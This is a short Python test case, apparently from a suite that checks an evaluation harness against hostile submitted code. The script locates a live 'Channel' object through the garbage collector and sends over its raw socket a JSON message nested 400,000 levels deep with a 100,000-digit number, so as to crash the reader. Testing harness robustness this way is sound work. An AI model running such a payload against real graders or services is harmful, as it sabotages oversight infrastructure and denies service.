# row: -
# class: exhaust
# place: after training
# allowed: no_answer
# tries: answers with JSON so deep, and with numbers so long, that a reader breaks.

import gc
import struct
import time

channel = next(one for one in gc.get_objects() if type(one).__name__ == "Channel")
head = b'{"report": ' + b"[" * 400_000 + b"9" * 100_000 + b"]" * 400_000 + b', "_arrays": []}'
channel._sock.sendall(struct.pack("<IQ", len(head), 0) + head)
time.sleep(60)
